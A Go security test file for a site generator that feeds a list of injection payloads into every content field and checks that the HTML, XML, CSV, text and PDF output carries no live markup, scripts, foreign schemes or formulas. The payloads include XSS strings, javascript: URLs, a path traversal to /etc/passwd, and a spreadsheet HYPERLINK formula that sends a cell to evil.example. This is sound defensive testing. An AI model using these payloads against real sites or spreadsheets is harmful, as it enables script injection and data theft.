package site

import (
	"bytes"
	"compress/zlib"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf8"

	"golang.org/x/net/html"

	"gitlab.opencode.de/praxisblatt/praxisblatt/i18n"
	"gitlab.opencode.de/praxisblatt/praxisblatt/internal/browser"
	"gitlab.opencode.de/praxisblatt/praxisblatt/internal/diag"
	"gitlab.opencode.de/praxisblatt/praxisblatt/internal/output"
	"gitlab.opencode.de/praxisblatt/praxisblatt/internal/pack"
	"gitlab.opencode.de/praxisblatt/praxisblatt/internal/plan"
	"gitlab.opencode.de/praxisblatt/praxisblatt/internal/yamlnode"
)

// attacks are what somebody may write into a field to bring script, styles,
// frames, requests or formulas into what is made of it. The element x-evil and the attribute
// data-evil show that a text has become markup, evil() that it ran.
var attacks = []string{
	`"><x-evil data-evil="1"><script>evil()</script><img src=x onerror=evil()>`,
	`' data-evil='1' onmouseover='evil()' autofocus onfocus=evil() x='`,
	`</script></style></title></textarea><script>evil()</script><x-evil>`,
	`]]></x><x-evil xmlns="http://www.w3.org/1999/xhtml"><script>evil()</script><![CDATA[`,
	`javascript:evil()`,
	" java\tscript:evil()//",
	`data:text/html,<script>evil()</script>`,
	`//evil.example/x`,
	`../../../../etc/passwd`,
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	"{{define \"base\"}}<x-evil>{{end}}{{evil}}",
	"x\nContact: mailto:evil@evil.example\n---\n<x-evil>",
	"[x](javascript:evil()) ![x](https://evil.example/p.png) <javascript:evil()> [x](../../../../etc/passwd) <x-evil onclick=evil()>",
	`https://evil.example/"><x-evil data-evil='1' onmouseover='evil()'><script>evil()</script>`,
	`evil@evil.example"><x-evil data-evil='1'>`,
	"x;=HYPERLINK(\"http://evil.example\";\"x\")\n=1+1",
	"\x00\x01\x0b\x1b[2J\x7f\u009b\ufffe\uffff<x-evil>",
	"\u202e\u2028</x-evil>\u2029<x-evil>\ufeff",
}

// A slot is a place in a file where a value stands.
type slot struct {
	file       string
	start, end int
}

// slots finds every value of a catalogue, keys of vocabularies and bodies too.
func slots(files fstest.MapFS) []slot {
	var found []slot
	for _, name := range slices.Sorted(maps.Keys(files)) {
		src := diag.NewSource(name, string(files[name].Data))
		add := func(s diag.Span) { found = append(found, slot{name, s.Start, s.End}) }
		var walk func(n *yamlnode.Node)
		walk = func(n *yamlnode.Node) {
			if n.Kind == yamlnode.Scalar {
				add(n.Span)
			}
			for _, p := range n.Pairs {
				if strings.Contains(name, "vocabulary") {
					add(p.KeySpan)
				}
				walk(p.Value)
			}
			for _, item := range n.Items {
				walk(item)
			}
		}
		switch {
		case strings.HasSuffix(name, ".md"):
			m, _ := yamlnode.ParseMatter(src)
			walk(m.Root)
			add(m.Body)
		case strings.HasSuffix(name, "glossary.yaml"):
			list, _ := yamlnode.ParseList(src)
			walk(list)
		case strings.HasSuffix(name, ".yaml"):
			tree, _ := yamlnode.Parse(src)
			walk(tree.Root)
		}
	}
	return found
}

// with returns the catalogue with values in some slots, which are in the order of their files and places.
func with(files fstest.MapFS, value func(i int) string, at ...slot) fstest.MapFS {
	files = maps.Clone(files)
	for i, s := range slices.Backward(at) {
		text := string(files[s.file].Data)
		value := value(i) // of a body
		if was := text[s.start:s.end]; !strings.HasSuffix(s.file, ".md") || s.end < len(text) {
			value = strconv.Quote(value)
			if strings.HasSuffix(was, "\n") {
				value += "\n"
			}
		}
		files[s.file] = &fstest.MapFile{Data: []byte(text[:s.start] + value + text[s.end:])}
	}
	return files
}

// TestHostile holds that whatever stands in a field, nothing of it becomes more than text. First
// field by field, whatever check would say to it, since serve shows such sheets as well; in the
// short form each attack meets other fields. Then in all fields at once that take any text,
// in a browser, each attack in others.
func TestHostile(t *testing.T) {
	b := browser.Start(t)
	catalogue := golden(t)
	words, err := i18n.Files.ReadFile("de.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const own, everyWord = "i18n/de.yaml", 5 // there are more words than all the rest
	catalogue[own] = &fstest.MapFile{Data: words}
	all := slots(catalogue)
	t.Run("field by field", func(t *testing.T) {
		for i, attack := range attacks {
			for k := i * everyNth / len(attacks); k < len(all); k += everyNth {
				if all[k].file == own && k%everyWord > 0 {
					continue
				}
				_, sink := rendered(t, with(catalogue, func(int) string { return attack }, all[k]))
				innocent(t, sink)
				if t.Failed() {
					t.Fatalf("%q in %s at byte %d", attack, all[k].file, all[k].start)
				}
			}
		}
	})
	free := slices.DeleteFunc(all, func(s slot) bool {
		if s.file == own { // words are words, but for those that say how the page is made
			return slices.Contains([]string{"ltr", "Deutsch"}, string(words[s.start:s.end]))
		}
		l, err := load(with(catalogue, func(int) string { return "Any text" }, s), Options{Dir: ".", Now: today(t), Version: "test"})
		if err != nil {
			t.Fatal(err)
		}
		errors, _, _ := diag.Count(l.Findings)
		return errors > 0
	})
	if len(free) < 60 {
		t.Fatalf("only %d fields take any text", len(free))
	}
	for k := range mixes {
		t.Run("all at once "+strconv.Itoa(k), func(t *testing.T) {
			l, sink := rendered(t, with(catalogue, func(i int) string { return attacks[(i+k*len(attacks)/mixes)%len(attacks)] }, free...))
			innocent(t, sink)
			innocentPDF(t, l)
			inBrowser(t, b, l, sink)
		})
	}
}

// inBrowser opens one page of every kind.
func inBrowser(t *testing.T, b *browser.Browser, l *Loaded, sink *output.Memory) {
	dir := t.TempDir()
	for f := range sink.All() {
		path := filepath.Join(dir, filepath.FromSlash(f.Path))
		os.MkdirAll(filepath.Dir(path), 0o755)
		if err := os.WriteFile(path, f.Bytes, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	server := httptest.NewServer(http.FileServer(http.Dir(dir)))
	defer server.Close()
	p := b.Open(t, server.URL+"/index.html", browser.View{})
	seen := map[string]bool{}
	for _, page := range l.Plan.Pages {
		if kind := string(page.Kind) + page.Facet; !seen[kind] && page.Lang != "fr" {
			seen[kind] = true
			p.Visit(server.URL + "/" + page.Path)
			if browser.Eval[bool](p, `!!document.querySelector("x-evil, [data-evil]")`) {
				t.Errorf("%s: markup came in", page.Path)
			}
		}
	}
	p.Sound("404")
}

// innocent looks at every file of a site for what no text may bring in.
func innocent(t *testing.T, sink *output.Memory) {
	t.Helper()
	for f := range sink.All() {
		var err string
		switch {
		case strings.HasSuffix(f.Path, ".html"):
			err = guiltyHTML(f.Bytes)
		case strings.HasSuffix(f.Path, ".xml"), strings.HasSuffix(f.Path, ".svg"):
			err = guiltyXML(f.Bytes)
		case strings.HasSuffix(f.Path, ".json"):
			if !json.Valid(f.Bytes) {
				err = "no JSON"
			}
		case strings.HasSuffix(f.Path, ".csv"):
			err = guiltyCSV(f.Bytes)
		case strings.HasSuffix(f.Path, ".txt"):
			err = guiltyText(f.Bytes)
		}
		if err != "" {
			t.Errorf("%s: %s", f.Path, err)
		}
	}
}

// harmlessElements are those that pages consist of.
var harmlessElements = strings.Fields(`html head meta title link body header nav main footer section article aside div p span a ul ol li dl dt dd h1 h2 h3 h4 h5 h6
	table caption thead tbody tr th td colgroup col figure figcaption img picture source svg path image circle g rect line use text details summary blockquote
	em strong b i s del ins q cite code pre kbd sub sup br hr wbr abbr time data mark small bdi bdo address noscript script form search label input select option
	optgroup button fieldset legend textarea output progress meter template dialog hgroup defs symbol clippath marker desc polyline ellipse tspan`)

func guiltyHTML(page []byte) string {
	z := html.NewTokenizer(bytes.NewReader(page))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			tag := z.Token()
			if err := guiltyTag(tag); err != "" {
				return err + " in " + tag.String()
			}
			if tag.Data == "script" {
				z.Next()
				switch text := bytes.Clone(z.Raw()); {
				case isData(tag) && !json.Valid(text):
					return "linked data that is no JSON"
				case len(bytes.TrimSpace(text)) > 0 && z.Token().Type == html.TextToken && !isData(tag):
					return "script in a page"
				}
			}
		}
	}
}

func isData(script html.Token) bool {
	return slices.ContainsFunc(script.Attr, func(a html.Attribute) bool { return a.Key == "type" && a.Val == "application/ld+json" })
}

var (
	scheme = regexp.MustCompile(`^[\x00-\x20]*(?i)([a-z][a-z0-9+.-]*)[\x00-\x20]*:`)
	loads  = map[string]bool{"script src": true, "img src": true, "source srcset": true, "img srcset": true, "form action": true, "use href": true, "image href": true, "input src": true}
)

func guiltyTag(tag html.Token) string {
	if !slices.Contains(harmlessElements, tag.Data) {
		return "element"
	}
	for _, a := range tag.Attr {
		switch where := tag.Data + " " + a.Key; {
		case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "data-evil", a.Key == "srcdoc":
			return "attribute " + a.Key
		case loads[where] && (scheme.MatchString(a.Val) || strings.HasPrefix(a.Val, "//")):
			return "loaded from elsewhere: " + a.Val
		case (a.Key == "href" || loads[where]) && strings.Contains(a.Val, "etc/passwd"):
			return "a way out of the site: " + a.Val
		case a.Key == "href" || loads[where]:
			if m := scheme.FindStringSubmatch(a.Val); m != nil && !slices.Contains([]string{"http", "https", "mailto", "tel"}, strings.ToLower(m[1])) {
				return "scheme " + m[1]
			}
		}
	}
	return ""
}

func guiltyXML(text []byte) string {
	d := xml.NewDecoder(bytes.NewReader(text))
	for {
		token, err := d.Token()
		if err == io.EOF {
			return ""
		}
		if err != nil {
			return err.Error()
		}
		if e, ok := token.(xml.StartElement); ok && (e.Name.Local == "x-evil" || e.Name.Local == "script") {
			return "element " + e.Name.Local
		} else if ok {
			for _, a := range e.Attr {
				if m := scheme.FindStringSubmatch(a.Value); m != nil && a.Name.Local == "href" && m[1] != "http" && m[1] != "https" {
					return "scheme " + m[1]
				}
			}
		}
	}
}

// formulas begin behind any sign at which some program parts cells.
var formulas = regexp.MustCompile(`(?m)(^|[;\t])"*[=+@-]`)

func guiltyCSV(text []byte) string {
	if m := formulas.Find(text); m != nil {
		return "formula behind " + string(m)
	}
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		return err.Error()
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				return "formula " + cell
			}
		}
	}
	return ""
}

// innocentPDF prints a pack of all sheets and looks for what a PDF can do beyond showing pages.
func innocentPDF(t *testing.T, l *Loaded) {
	t.Helper()
	var ids []string
	for _, e := range l.Catalogue.Entries {
		ids = append(ids, e.ID)
	}
	r, err := l.Pack(PackOptions{Choice: plan.Choice{Names: ids, Langs: []string{"de"}}, Format: pack.A4})
	if err != nil {
		t.Fatal(err)
	}
	if err := guiltyPDF(r.PDF); err != "" {
		t.Errorf("pack: %s", err)
	}
}

var (
	streams = regexp.MustCompile(`(?s)stream\r?\n(.*?)\r?\nendstream`)
	acts    = regexp.MustCompile(`/(JavaScript|JS|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFile|RichMedia|Movie|Rendition|AA)\b`)
	actions = regexp.MustCompile(`/URI\s*(\(.*?\)|<.*?>)`)
)

func guiltyPDF(file []byte) string {
	all := [][]byte{file}
	for _, m := range streams.FindAllSubmatch(file, -1) {
		if z, err := zlib.NewReader(bytes.NewReader(m[1])); err == nil {
			if text, err := io.ReadAll(z); err == nil && !bytes.Contains(text[:min(len(text), 400)], []byte(" Tf")) {
				all = append(all, text)
			}
		}
	}
	if len(all) < 5 {
		return "no streams were read"
	}
	links := 0
	for _, text := range all {
		if m := acts.Find(text); m != nil && utf8.Valid(text) {
			return string(m)
		}
		for _, m := range actions.FindAllSubmatch(text, -1) {
			links++
			if !regexp.MustCompile(`^\((https?|mailto|tel):`).Match(m[1]) {
				return "a link to " + string(m[1])
			}
		}
	}
	if links == 0 {
		return "no link was read"
	}
	return ""
}

// guiltyText looks for a line that an attack made.
func guiltyText(text []byte) string {
	for line := range strings.Lines(string(text)) {
		if strings.HasPrefix(line, "Contact: mailto:evil") {
			return "line " + line
		}
	}
	return ""
}
